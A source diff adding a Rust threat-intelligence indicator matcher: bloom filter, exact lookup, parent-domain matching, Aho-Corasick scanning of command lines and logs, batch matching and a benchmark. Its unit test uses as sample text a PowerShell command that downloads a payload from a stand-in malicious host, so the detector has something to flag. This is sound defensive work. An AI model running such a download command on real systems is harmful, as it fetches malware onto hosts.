@@ -0,0 +1,563 @@
+//! Indicator matching engine
+//!
+//! The intel store is compiled into an [`IndicatorMatcher`] built for
+//! streaming lookups. Every indicator value goes into a bloom filter backed
+//! by an exact verification set, so the common case, a value that is not an
+//! indicator, costs one hash and a few bit probes and allocates nothing. A
+//! domain also matches its subdomains: each parent of a looked up hostname
+//! is probed the same way. Domain and URL indicators are compiled into an
+//! Aho-Corasick automaton for substring scans of free text such as command
+//! lines, proxy logs and DNS queries; domain hits must sit on label
+//! boundaries.
+//!
+//! The matcher is rebuilt after every feed run and swapped in whole, so
+//! lookups never wait on ingestion. Batches are matched in parallel.
+//! [`IndicatorMatcher::benchmark`] measures lookup throughput against the
+//! compiled set; the last result and the lookup counters are exposed as
+//! Prometheus metrics.
+
+use crate::error::{CoreError, CoreResult};
+use crate::secop_core::SecOpCore;
+use aho_corasick::AhoCorasick;
+use chrono::{DateTime, Utc};
+use rayon::prelude::*;
+use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::Arc;
+use std::time::Instant;
+use tokio::sync::RwLock;
+
+#[cfg(feature = "napi")]
+use crate::secop_core::SecOpCoreNapi;
+#[cfg(feature = "napi")]
+use napi_derive::napi;
+
+/// Target false positive rate of the bloom filter
+pub const BLOOM_FALSE_POSITIVE_RATE: f64 = 0.001;
+/// Lookups run by a benchmark unless told otherwise
+pub const DEFAULT_BENCHMARK_LOOKUPS: usize = 1_000_000;
+/// Batch inputs handed to each parallel worker
+const BATCH_CHUNK: usize = 1024;
+/// Parent domains probed for one hostname
+const MAX_PARENT_DOMAINS: usize = 16;
+/// Distinct probe values cycled through by a benchmark
+const BENCHMARK_PROBES: usize = 4096;
+
+// Bloom filter
+
+/// FNV-1a over the ASCII-lowercased bytes, finished with a splitmix64 round
+fn hash_value(value: &str) -> u64 {
+    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
+    for byte in value.bytes() {
+        hash ^= u64::from(byte.to_ascii_lowercase());
+        hash = hash.wrapping_mul(0x0100_0000_01b3);
+    }
+    mix(hash)
+}
+
+fn mix(mut x: u64) -> u64 {
+    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+    x ^ (x >> 31)
+}
+
+/// Power-of-two sized bloom filter probed by double hashing
+struct BloomFilter {
+    words: Vec<u64>,
+    mask: u64,
+    hashes: u32,
+}
+
+impl BloomFilter {
+    fn new(items: usize, false_positive_rate: f64) -> Self {
+        let items = items.max(1) as f64;
+        let ideal = -(items * false_positive_rate.ln()) / (std::f64::consts::LN_2 * std::f64::consts::LN_2);
+        let bits = (ideal.ceil() as u64).max(64).next_power_of_two();
+        let hashes = (bits as f64 / items * std::f64::consts::LN_2).round().clamp(1.0, 16.0) as u32;
+        Self { words: vec![0; (bits / 64) as usize], mask: bits - 1, hashes }
+    }
+
+    fn bit(&self, hash: u64, step: u64, round: u64) -> u64 {
+        hash.wrapping_add(round.wrapping_mul(step)) & self.mask
+    }
+
+    fn insert(&mut self, hash: u64) {
+        let step = mix(hash) | 1;
+        for round in 0..u64::from(self.hashes) {
+            let bit = self.bit(hash, step, round);
+            self.words[(bit >> 6) as usize] |= 1u64 << (bit & 63);
+        }
+    }
+
+    fn contains(&self, hash: u64) -> bool {
+        let step = mix(hash) | 1;
+        (0..u64::from(self.hashes)).all(|round| {
+            let bit = self.bit(hash, step, round);
+            self.words[(bit >> 6) as usize] & (1u64 << (bit & 63)) != 0
+        })
+    }
+
+    fn bits(&self) -> u64 {
+        self.mask + 1
+    }
+}
+
+// Matcher
+
+/// One indicator to compile
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct MatcherEntry {
+    /// `type:value` key of the indicator in the intel store
+    pub key: String,
+    pub indicator_type: String,
+    pub value: String,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum MatchMethod {
+    /// The input is the indicator value
+    Exact,
+    /// The input is a subdomain of a domain indicator
+    ParentDomain,
+    /// The indicator appears inside the input
+    Substring,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct IndicatorMatch {
+    pub key: String,
+    pub indicator_type: String,
+    pub value: String,
+    pub method: MatchMethod,
+}
+
+/// Matches of one batch input, by its position in the batch
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BatchMatch {
+    pub index: usize,
+    pub input: String,
+    pub matches: Vec<IndicatorMatch>,
+}
+
+/// Lookup counters, summed locally and published once per batch
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
+pub struct LookupStats {
+    pub lookups: u64,
+    /// Probes answered by the bloom filter alone
+    pub bloom_rejected: u64,
+    /// Probes the bloom filter passed but the verification set refused
+    pub false_positives: u64,
+    /// Inputs with at least one match
+    pub matched: u64,
+}
+
+impl LookupStats {
+    fn add(mut self, other: LookupStats) -> Self {
+        self.lookups += other.lookups;
+        self.bloom_rejected += other.bloom_rejected;
+        self.false_positives += other.false_positives;
+        self.matched += other.matched;
+        self
+    }
+}
+
+/// Throughput of one benchmark run
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct MatcherBenchmark {
+    pub indicators: usize,
+    pub lookups: u64,
+    pub hits: u64,
+    pub elapsed_ms: f64,
+    pub lookups_per_sec: f64,
+    pub measured_at: DateTime<Utc>,
+}
+
+/// Indicator set compiled for lookups; immutable once built
+pub struct IndicatorMatcher {
+    entries: Vec<MatcherEntry>,
+    bloom: BloomFilter,
+    /// Lowercased value to entries with that value
+    exact: HashMap<Box<str>, Vec<u32>>,
+    substrings: Option<AhoCorasick>,
+    /// Entry of each automaton pattern
+    patterns: Vec<u32>,
+    compiled_at: DateTime<Utc>,
+}
+
+impl Default for IndicatorMatcher {
+    fn default() -> Self {
+        Self::compile(Vec::new())
+    }
+}
+
+fn is_label_byte(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_'
+}
+
+/// Whether `value` is a bare hostname whose parents are worth probing
+fn is_hostname(value: &str) -> bool {
+    !value.contains(['/', ':', '@', ' '])
+        && value.rsplit('.').next().is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()))
+}
+
+impl IndicatorMatcher {
+    pub fn compile(entries: impl IntoIterator<Item = MatcherEntry>) -> Self {
+        let entries: Vec<MatcherEntry> = entries.into_iter().collect();
+        let mut bloom = BloomFilter::new(entries.len(), BLOOM_FALSE_POSITIVE_RATE);
+        let mut exact: HashMap<Box<str>, Vec<u32>> = HashMap::with_capacity(entries.len());
+        let mut texts = Vec::new();
+        let mut patterns = Vec::new();
+        for (index, entry) in entries.iter().enumerate() {
+            let value = entry.value.trim().to_ascii_lowercase();
+            if value.is_empty() {
+                continue;
+            }
+            bloom.insert(hash_value(&value));
+            if matches!(entry.indicator_type.as_str(), "Domain" | "URL") {
+                texts.push(value.clone());
+                patterns.push(index as u32);
+            }
+            exact.entry(value.into_boxed_str()).or_default().push(index as u32);
+        }
+        let substrings = if texts.is_empty() {
+            None
+        } else {
+            match AhoCorasick::builder().ascii_case_insensitive(true).build(&texts) {
+                Ok(automaton) => Some(automaton),
+                Err(e) => {
+                    log::warn!("Substring matching disabled, the automaton did not build: {}", e);
+                    None
+                }
+            }
+        };
+        Self { entries, bloom, exact, substrings, patterns, compiled_at: Utc::now() }
+    }
+
+    pub fn len(&self) -> usize {
+        self.entries.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.entries.is_empty()
+    }
+
+    /// Entries whose value is `probe`, checking the bloom filter first
+    fn probe(&self, probe: &str, stats: &mut LookupStats) -> Option<&[u32]> {
+        if !self.bloom.contains(hash_value(probe)) {
+            stats.bloom_rejected += 1;
+            return None;
+        }
+        let found = if probe.bytes().any(|b| b.is_ascii_uppercase()) {
+            self.exact.get(probe.to_ascii_lowercase().as_str())
+        } else {
+            self.exact.get(probe)
+        };
+        if found.is_none() {
+            stats.false_positives += 1;
+        }
+        found.map(Vec::as_slice)
+    }
+
+    fn push(found: &mut Vec<(u32, MatchMethod)>, entry: u32, method: MatchMethod) {
+        if !found.iter().any(|(seen, _)| *seen == entry) {
+            found.push((entry, method));
+        }
+    }
+
+    fn lookup(&self, value: &str, scan: bool, stats: &mut LookupStats, found: &mut Vec<(u32, MatchMethod)>) {
+        stats.lookups += 1;
+        let value = value.trim();
+        let start = found.len();
+        if let Some(entries) = self.probe(value, stats) {
+            for entry in entries {
+                Self::push(found, *entry, MatchMethod::Exact);
+            }
+        }
+        if is_hostname(value) {
+            let host = value.trim_end_matches('.');
+            for (dot, _) in host.match_indices('.').take(MAX_PARENT_DOMAINS) {
+                for entry in self.probe(&host[dot + 1..], stats).unwrap_or_default() {
+                    if self.entries[*entry as usize].indicator_type == "Domain" {
+                        Self::push(found, *entry, MatchMethod::ParentDomain);
+                    }
+                }
+            }
+        }
+        if scan {
+            self.scan(value, found);
+        }
+        if found.len() > start {
+            stats.matched += 1;
+        }
+    }
+
+    fn scan(&self, text: &str, found: &mut Vec<(u32, MatchMethod)>) {
+        let Some(automaton) = &self.substrings else {
+            return;
+        };
+        let bytes = text.as_bytes();
+        for hit in automaton.find_overlapping_iter(text) {
+            let entry = self.patterns[hit.pattern().as_usize()];
+            if self.entries[entry as usize].indicator_type == "Domain" {
+                let before = hit.start().checked_sub(1).map(|i| bytes[i]);
+                let after = bytes.get(hit.end()).copied();
+                if before.is_some_and(is_label_byte) || after.is_some_and(|b| is_label_byte(b) || b == b'.') {
+                    continue;
+                }
+            }
+            Self::push(found, entry, MatchMethod::Substring);
+        }
+    }
+
+    fn resolve(&self, found: Vec<(u32, MatchMethod)>) -> Vec<IndicatorMatch> {
+        found
+            .into_iter()
+            .map(|(entry, method)| {
+                let entry = &self.entries[entry as usize];
+                IndicatorMatch { key: entry.key.clone(), indicator_type: entry.indicator_type.clone(), value: entry.value.clone(), method }
+            })
+            .collect()
+    }
+
+    /// Indicators matching one value exactly or as a parent domain
+    pub fn match_value(&self, value: &str) -> Vec<IndicatorMatch> {
+        let mut found = Vec::new();
+        self.lookup(value, false, &mut LookupStats::default(), &mut found);
+        self.resolve(found)
+    }
+
+    /// Domain and URL indicators appearing anywhere in `text`
+    pub fn scan_text(&self, text: &str) -> Vec<IndicatorMatch> {
+        let mut found = Vec::new();
+        self.scan(text, &mut found);
+        self.resolve(found)
+    }
+
+    /// Match every value in parallel; only inputs with matches are returned.
+    /// With `scan` each value is also scanned for embedded domains and URLs
+    pub fn match_batch(&self, values: &[String], scan: bool) -> (Vec<BatchMatch>, LookupStats) {
+        values
+            .par_chunks(BATCH_CHUNK)
+            .enumerate()
+            .map(|(chunk, values)| {
+                let mut stats = LookupStats::default();
+                let mut matches = Vec::new();
+                let mut found = Vec::new();
+                for (offset, value) in values.iter().enumerate() {
+                    self.lookup(value, scan, &mut stats, &mut found);
+                    if !found.is_empty() {
+                        let index = chunk * BATCH_CHUNK + offset;
+                        matches.push(BatchMatch { index, input: value.clone(), matches: self.resolve(std::mem::take(&mut found)) });
+                    }
+                }
+                (matches, stats)
+            })
+            .reduce(
+                || (Vec::new(), LookupStats::default()),
+                |(mut matches, stats), (more, more_stats)| {
+                    matches.extend(more);
+                    (matches, stats.add(more_stats))
+                },
+            )
+    }
+
+    /// Time `lookups` single-value lookups on one thread. Probes cycle
+    /// through compiled values and addresses from the 198.18.0.0/15
+    /// benchmarking range, so most of them miss as live traffic would
+    pub fn benchmark(&self, lookups: usize) -> MatcherBenchmark {
+        let known = self.entries.iter().step_by((self.entries.len() / (BENCHMARK_PROBES / 8)).max(1)).map(|e| e.value.clone());
+        let mut probes: Vec<String> = known.take(BENCHMARK_PROBES / 8).collect();
+        let mut n = 0u32;
+        while probes.len() < BENCHMARK_PROBES {
+            probes.push(format!("198.{}.{}.{}", 18 + ((n >> 16) & 1), (n >> 8) & 0xff, n & 0xff));
+            n = n.wrapping_add(40_503);
+        }
+
+        let mut stats = LookupStats::default();
+        let mut found = Vec::new();
+        let started = Instant::now();
+        for probe in probes.iter().cycle().take(lookups) {
+            self.lookup(std::hint::black_box(probe), false, &mut stats, &mut found);
+            found.clear();
+        }
+        let elapsed = started.elapsed().as_secs_f64().max(1e-9);
+        MatcherBenchmark {
+            indicators: self.entries.len(),
+            lookups: stats.lookups,
+            hits: stats.matched,
+            elapsed_ms: elapsed * 1000.0,
+            lookups_per_sec: stats.lookups as f64 / elapsed,
+            measured_at: Utc::now(),
+        }
+    }
+}
+
+// State
+
+#[derive(Default)]
+struct Counters {
+    lookups: AtomicU64,
+    bloom_rejected: AtomicU64,
+    false_positives: AtomicU64,
+    matched: AtomicU64,
+}
+
+/// The live matcher and its counters, kept across rebuilds
+#[derive(Default)]
+pub struct IndicatorMatchingState {
+    matcher: RwLock<Arc<IndicatorMatcher>>,
+    counters: Counters,
+    last_benchmark: RwLock<Option<MatcherBenchmark>>,
+}
+
+impl IndicatorMatchingState {
+    pub(crate) async fn matcher(&self) -> Arc<IndicatorMatcher> {
+        self.matcher.read().await.clone()
+    }
+
+    pub(crate) async fn replace(&self, matcher: IndicatorMatcher) {
+        *self.matcher.write().await = Arc::new(matcher);
+    }
+
+    fn record(&self, stats: LookupStats) {
+        self.counters.lookups.fetch_add(stats.lookups, Ordering::Relaxed);
+        self.counters.bloom_rejected.fetch_add(stats.bloom_rejected, Ordering::Relaxed);
+        self.counters.false_positives.fetch_add(stats.false_positives, Ordering::Relaxed);
+        self.counters.matched.fetch_add(stats.matched, Ordering::Relaxed);
+    }
+}
+
+/// Shape of the live matcher and lookups served since startup
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct MatcherStats {
+    pub indicators: usize,
+    pub substring_patterns: usize,
+    pub bloom_bits: u64,
+    pub bloom_hashes: u32,
+    pub compiled_at: DateTime<Utc>,
+    pub totals: LookupStats,
+    pub last_benchmark: Option<MatcherBenchmark>,
+}
+
+impl SecOpCore {
+    /// Match a batch of observed values against the intel store
+    pub async fn match_indicators(&self, values: &[String], scan_substrings: bool) -> Vec<BatchMatch> {
+        let engine = &self.intel_feeds.engine;
+        let matcher = engine.matcher().await;
+        let (matches, stats) = matcher.match_batch(values, scan_substrings);
+        engine.record(stats);
+        matches
+    }
+
+    /// Benchmark the live matcher off the async runtime and keep the result
+    pub async fn benchmark_indicator_matcher(&self, lookups: usize) -> CoreResult<MatcherBenchmark> {
+        let matcher = self.intel_feeds.engine.matcher().await;
+        let lookups = lookups.max(1);
+        let benchmark = tokio::task::spawn_blocking(move || matcher.benchmark(lookups))
+            .await
+            .map_err(|e| CoreError::backend(format!("Indicator matcher benchmark failed: {}", e)))?;
+        *self.intel_feeds.engine.last_benchmark.write().await = Some(benchmark.clone());
+        Ok(benchmark)
+    }
+
+    pub async fn indicator_matcher_stats(&self) -> MatcherStats {
+        let engine = &self.intel_feeds.engine;
+        let matcher = engine.matcher().await;
+        let counters = &engine.counters;
+        MatcherStats {
+            indicators: matcher.len(),
+            substring_patterns: matcher.patterns.len(),
+            bloom_bits: matcher.bloom.bits(),
+            bloom_hashes: matcher.bloom.hashes,
+            compiled_at: matcher.compiled_at,
+            totals: LookupStats {
+                lookups: counters.lookups.load(Ordering::Relaxed),
+                bloom_rejected: counters.bloom_rejected.load(Ordering::Relaxed),
+                false_positives: counters.false_positives.load(Ordering::Relaxed),
+                matched: counters.matched.load(Ordering::Relaxed),
+            },
+            last_benchmark: engine.last_benchmark.read().await.clone(),
+        }
+    }
+}
+
+#[cfg(feature = "napi")]
+#[napi]
+impl SecOpCoreNapi {
+    /// Match a JSON array of observed values; returns the inputs that hit.
+    /// With `scan_substrings` values are also scanned for embedded domains
+    /// and URLs
+    #[napi]
+    pub async fn match_indicators(&self, values_json: String, scan_substrings: Option<bool>) -> napi::Result<String> {
+        let values: Vec<String> = serde_json::from_str(&values_json)
+            .map_err(|e| napi::Error::from_reason(format!("Invalid values: {}", e)))?;
+        let matches = self.inner.match_indicators(&values, scan_substrings.unwrap_or(false)).await;
+        serde_json::to_string(&matches)
+            .map_err(|e| napi::Error::from_reason(format!("Serialization error: {}", e)))
+    }
+
+    /// Measure matcher throughput; the result is kept for the metrics
+    #[napi]
+    pub async fn benchmark_indicator_matcher(&self, lookups: Option<u32>, auth_token: Option<String>) -> napi::Result<String> {
+        self.authorize(auth_token, "rule:manage", "intel_feeds")?;
+        let lookups = lookups.map_or(DEFAULT_BENCHMARK_LOOKUPS, |l| l as usize);
+        let benchmark = self.inner.benchmark_indicator_matcher(lookups).await
+            .map_err(|e| e.context("Failed to benchmark indicator matcher"))?;
+        serde_json::to_string(&benchmark)
+            .map_err(|e| napi::Error::from_reason(format!("Serialization error: {}", e)))
+    }
+
+    #[napi]
+    pub async fn indicator_matcher_stats(&self) -> napi::Result<String> {
+        serde_json::to_string(&self.inner.indicator_matcher_stats().await)
+            .map_err(|e| napi::Error::from_reason(format!("Serialization error: {}", e)))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn entry(kind: &str, value: &str) -> MatcherEntry {
+        MatcherEntry { key: format!("{}:{}", kind.to_lowercase(), value), indicator_type: kind.to_string(), value: value.to_string() }
+    }
+
+    #[test]
+    fn matches_exact_values_parent_domains_and_substrings() {
+        let mut entries = vec![
+            entry("Domain", "evil.example"),
+            entry("URL", "http://cdn.bad.test/payload.bin"),
+            entry("IP", "203.0.113.7"),
+            entry("Hash", "44d88612fea8a8f36de82e1278abb02f"),
+        ];
+        entries.extend((0..50_000).map(|n| entry("IP", &format!("10.{}.{}.{}", n >> 16, (n >> 8) & 0xff, n & 0xff))));
+        let matcher = IndicatorMatcher::compile(entries);
+
+        let methods = |value: &str| matcher.match_value(value).into_iter().map(|m| (m.value, m.method)).collect::<Vec<_>>();
+        assert_eq!(methods("203.0.113.7"), vec![("203.0.113.7".to_string(), MatchMethod::Exact)]);
+        assert_eq!(methods("44D88612FEA8A8F36DE82E1278ABB02F").len(), 1);
+        assert_eq!(methods("a.b.Evil.Example"), vec![("evil.example".to_string(), MatchMethod::ParentDomain)]);
+        assert!(methods("notevil.example").is_empty());
+        assert!(methods("203.0.113.8").is_empty());
+
+        let text = "powershell iwr http://cdn.bad.test/payload.bin -o x; nslookup notevil.example; ping mail.evil.example";
+        let scanned: Vec<String> = matcher.scan_text(text).into_iter().map(|m| m.value).collect();
+        assert_eq!(scanned, vec!["http://cdn.bad.test/payload.bin".to_string(), "evil.example".to_string()]);
+
+        let values: Vec<String> = (0..5000).map(|n| format!("192.0.2.{}", n % 250)).chain(["10.0.3.4".to_string()]).collect();
+        let (batch, stats) = matcher.match_batch(&values, true);
+        assert_eq!(batch.len(), 1);
+        assert_eq!(batch[0].index, 5000);
+        assert_eq!(stats.lookups, 5001);
+        assert_eq!(stats.matched, 1);
+
+        let benchmark = matcher.benchmark(200_000);
+        assert_eq!(benchmark.lookups, 200_000);
+        assert!(benchmark.hits > 0);
+        if !cfg!(debug_assertions) {
+            assert!(benchmark.lookups_per_sec > 1_000_000.0, "{:?}", benchmark);
+        }
+    }
+}